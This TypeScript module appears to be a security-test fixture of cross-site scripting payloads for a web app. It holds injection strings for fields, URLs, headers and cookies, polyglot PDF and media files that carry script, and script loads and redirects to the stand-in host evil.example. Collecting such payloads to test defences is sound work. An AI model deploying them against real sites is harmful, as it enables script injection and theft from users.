/**
 * What people have tried in order to run a script on another's page, each in words that call `alert` or ask another host.
 * Sorted by the place it is made for; a story puts it in and looks whether anything runs (threat T17).
 */

/** Ends whatever the text may stand in. */
const WAYS_OUT = ["", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</template>"];

/** Runs by itself where it becomes markup. */
const RUNS = [
  "<script>alert(17)</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(17)>",
  "<svg onload=alert(17)>",
  "<svg><script>alert(17)</script></svg>",
  "<svg><animate onbegin=alert(17) attributeName=x dur=1s>",
  "<body onload=alert(17)>",
  "<input autofocus onfocus=alert(17)>",
  "<details open ontoggle=alert(17)>",
  "<video src=x onerror=alert(17)>",
  "<audio src onloadstart=alert(17)>",
  "<iframe src=javascript:alert(17)>",
  "<iframe srcdoc='<script>parent.alert(17)</script>'>",
  "<object data=javascript:alert(17)>",
  "<embed src=javascript:alert(17)>",
  "<math><mtext><img src=x onerror=alert(17)>",
];

/** Texts of one line: names, titles, tags, labels. */
export const TEXTS: string[] = [
  ...WAYS_OUT.flatMap((out) => RUNS.map((run) => out + run)),
  "\" onmouseover=\"alert(17)",
  "' autofocus onfocus='alert(17)",
  "\" autofocus onfocus=alert(17) x=\"",
  "` onload=`alert(17)`",
  "javascript:alert(17)",
  "JaVaScRiPt:alert(17)",
  "java&#x09;script:alert(17)",
  "data:text/html,<script>alert(17)</script>",
  "&lt;script&gt;alert(17)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(17)&#62;",
  "%3Cscript%3Ealert(17)%3C/script%3E",
  "\\u003cscript\\u003ealert(17)\\u003c/script\\u003e",
  "+ADw-script+AD4-alert(17)+ADw-/script+AD4-",
  "＜script＞alert(17)＜/script＞",
  "<scr<script>ipt>alert(17)</scr</script>ipt>",
  "<<script>alert(17);//<</script>",
  "<IMG SRC=x OnErRoR=alert(17)>",
  "<img/src=x/onerror=alert(17)>",
  "<a href=javascript:alert(17)>come</a>",
  "<form action=javascript:alert(17)><button autofocus>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<img src=//evil.example/x.png>",
  "{{constructor.constructor('alert(17)')()}}",
  "${alert(17)}",
  "#{alert(17)}",
  "<%= alert(17) %>",
  "{ $title }{ alert(17) }",
  "{% raw %}<script>alert(17)</script>",
  "'-alert(17)-'",
  "\";alert(17);//",
  "\\\";alert(17);//",
  "</script><svg/onload=alert(17)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(17)>\">",
  "<mXSS><style><img title=\"</style><img src onerror=alert(17)>\">",
  "<svg><a xlink:href=javascript:alert(17)><text y=9>x",
  "<portal src=//evil.example>",
  "<x onclick=alert(17) tabindex=1 autofocus>",
];

/** Texts of several lines, in which addresses become links. */
export const PROSE: string[] = [
  "https://evil.example/\"onmouseover=\"alert(17)",
  "https://evil.example/'onclick='alert(17)",
  "https://evil.example/<script>alert(17)</script>",
  "http://javascript:alert(17)@evil.example/",
  "javascript://evil.example/%0aalert(17)",
  "https://evil.example/`onclick=`alert(17)",
  "[come](javascript:alert(17))",
  "![x](//evil.example/x.png)",
  "<https://evil.example/><img src=x onerror=alert(17)>",
];

/** Local parts of addresses, quoted where they have to be. */
export const LOCAL_PARTS: string[] = [
  "\"<script>alert(17)</script>\"",
  "\"<img src=x onerror=alert(17)>\"",
  "\"<svg onload=alert(17)>\"",
  "\"'><svg onload=alert(17)>\"",
  "'onfocus='alert`17`",
  "${alert`17`}",
  "{{alert`17`}}",
  "`alert`",
  "javascript/alert",
  "&#60script&#62",
];

/** Queries that pages read, echo or lead on to. */
export const QUERIES: string[] = [
  "/sign-in?next=javascript:alert(17)",
  "/sign-in?next=%22%3E%3Cscript%3Ealert(17)%3C/script%3E",
  "/sign-in?next=//evil.example",
  "/sign-in?next=/%5Cevil.example",
  "/?before=%22%3E%3Cscript%3Ealert(17)%3C/script%3E",
  "/my-media?before=%3Csvg%20onload=alert(17)%3E",
  "/trash?before='onload='alert(17)",
  "/people?q=%3Cimg%20src=x%20onerror=alert(17)%3E",
  "/admin/subjects?q=%3Cscript%3Ealert(17)%3C/script%3E",
  "/admin/config/tab/%3Cscript%3Ealert(17)%3C%2Fscript%3E",
  "/media/%3Cscript%3Ealert(17)%3C%2Fscript%3E",
  "/i/%3Cscript%3Ealert(17)%3C%2Fscript%3E?guest=1",
  "/i/x?guest=%22%3E%3Cscript%3Ealert(17)%3C/script%3E",
  "/%3Cscript%3Ealert(17)%3C%2Fscript%3E",
  "/assets/%3Cscript%3Ealert(17)%3C%2Fscript%3E",
  "/my-media?%22onmouseover=%22alert(17)=1",
];

/** Headers of which a page repeats something. */
export const LANGUAGES: string[] = [
  "\"><script>alert(17)</script>",
  "en\" onload=\"alert(17)",
  "x-'><svg onload=alert(17)>",
  "en-<img src=x onerror=alert(17)>;q=1",
];

/** Cookies of which a page repeats something. */
export const COOKIES: Record<string, string> = {
  "usher-theme": "dark%22onload=%22alert(17)",
  "usher-zone": "<script>alert(17)</script>",
  "usher-said": "said-<script>alert(17)</script>",
};

const PAGE = "<!doctype html><title>x</title><script>alert(17)</script><img src=x onerror=alert(17)>";
const DRAWING = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(17)'><script>alert(17)</script></svg>";
/** A document that is whole, runs a script of its own kind when it is opened, and is a page as well. */
const DOCUMENT = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(17\\);)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:alert\\(17\\))>>>>]>>endobj
%${PAGE}
trailer<</Root 1 0 R/Size 4>>
%%EOF
`;

/** Files that are not what they are called, or more than that. */
export const FILES: { kind: "video" | "audio" | "document"; name: string; text: string }[] = [
  { kind: "document", name: "notes.pdf", text: DOCUMENT },
  { kind: "document", name: "notes.html", text: PAGE },
  { kind: "document", name: "notes.pdf.html", text: `%PDF-1.4\n${PAGE}` },
  { kind: "document", name: "page.pdf", text: `${PAGE}%PDF-1.4` },
  { kind: "document", name: "<script>alert(17)</script>.pdf", text: DOCUMENT },
  { kind: "document", name: "\"onload=\"alert(17).pdf", text: DOCUMENT },
  { kind: "video", name: "drawing.svg", text: DRAWING },
  { kind: "video", name: "<img src=x onerror=alert(17)>.mp4", text: DRAWING },
  { kind: "video", name: "list.m3u8", text: "#EXTM3U\n#EXTINF:1,\nhttps://evil.example/x.ts\n#EXT-X-ENDLIST\n" },
  { kind: "video", name: "page.mp4", text: `\0\0\0\x20ftypisom\0\0\0\0${PAGE}` },
  { kind: "audio", name: "page.mp3", text: `ID3\x03\0\0\0\0\0\0${PAGE}` },
  { kind: "audio", name: "page.wav", text: `RIFF\x24\0\0\0WAVE${PAGE}` },
  { kind: "audio", name: "drawing.xhtml", text: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(17)</script></html>` },
];

/** Lines of captions; a cue knows a few tags of its own. */
export const CUES: string[] = [
  ...RUNS,
  "<v <script>alert(17)</script>>says</v>",
  "<c.a onmouseover=alert(17)>class</c>",
  "<lang en onload=alert(17)>language</lang>",
  "<b><i><u><ruby>x<rt><img src=x onerror=alert(17)></rt></ruby></u></i></b>",
  "&lt;script&gt;alert(17)&lt;/script&gt;",
  "<00:00:00.500><svg onload=alert(17)>",
];

/** A caption track with every cue at its beginning. */
export function captions(): string {
  const cues = CUES.map((cue, index) => `${index}\n00:00:00.000 --> 00:10:00.000\n${cue}\n`);
  return `WEBVTT\n\nSTYLE\n::cue { background: url(//evil.example/x.png) }\n\nNOTE <script>alert(17)</script>\n\n${cues.join("\n")}`;
}
